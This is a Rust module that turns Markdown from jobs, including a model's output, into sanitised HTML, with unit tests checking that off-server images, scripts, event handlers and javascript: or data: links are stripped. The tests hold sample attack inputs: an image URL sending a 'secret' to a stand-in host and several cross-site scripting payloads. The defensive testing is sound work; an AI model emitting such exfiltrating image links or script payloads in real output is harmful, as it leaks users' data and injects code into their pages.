//! Markdown from a job (a model's result, a question) rendered to HTML a page may show: rendered
//! with pulldown-cmark, then sanitised with ammonia, which keeps formatting and drops every
//! script, event handler, style, form and frame, and every URL but `http`, `https` and `mailto`.

use pulldown_cmark::{Options, Parser, html};

/// `markdown` as sanitised HTML: safe to insert into a page, whatever the text holds.
pub fn markdown_html(markdown: &str) -> String {
    let parser = Parser::new_ext(
        markdown,
        Options::ENABLE_TABLES
            | Options::ENABLE_STRIKETHROUGH
            | Options::ENABLE_TASKLISTS
            | Options::ENABLE_FOOTNOTES,
    );
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, parser);
    ammonia::Builder::default()
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        // An image the model names could carry data out in its URL as soon as the page shows
        // it: only images of this server (a path) load; the others keep their alt text.
        .attribute_filter(|element, attribute, value| {
            if element == "img"
                && attribute == "src"
                && (!value.starts_with('/') || value.starts_with("//"))
            {
                None
            } else {
                Some(value.into())
            }
        })
        .clean(&out)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::markdown_html;

    #[test]
    fn images_load_only_from_this_server() {
        let html = markdown_html(
            "![leak](https://evil.example/?q=secret) ![ok](/api/v1/jobs/1/files/a.png) ![p](//evil.example/x)",
        );
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("alt=\"leak\""), "{html}");
        assert!(
            html.contains("src=\"/api/v1/jobs/1/files/a.png\""),
            "{html}"
        );
    }

    #[test]
    fn formatting_is_kept() {
        let html =
            markdown_html("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<td>1</td>"), "{html}");
    }

    #[test]
    fn scripts_handlers_and_script_urls_are_removed() {
        let html = markdown_html(
            "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n\
             [click](javascript:alert(3)) <a href=\"data:text/html,x\">d</a>\n\n\
             <iframe src=/></iframe><style>body{}</style><form action=/x><input></form>",
        );
        for bad in [
            "<script",
            "onerror",
            "javascript:",
            "data:text",
            "<iframe",
            "<style",
            "<form",
            "<input",
        ] {
            assert!(!html.contains(bad), "{bad} survived: {html}");
        }
        assert!(html.contains("<img>"), "{html}");
    }
}
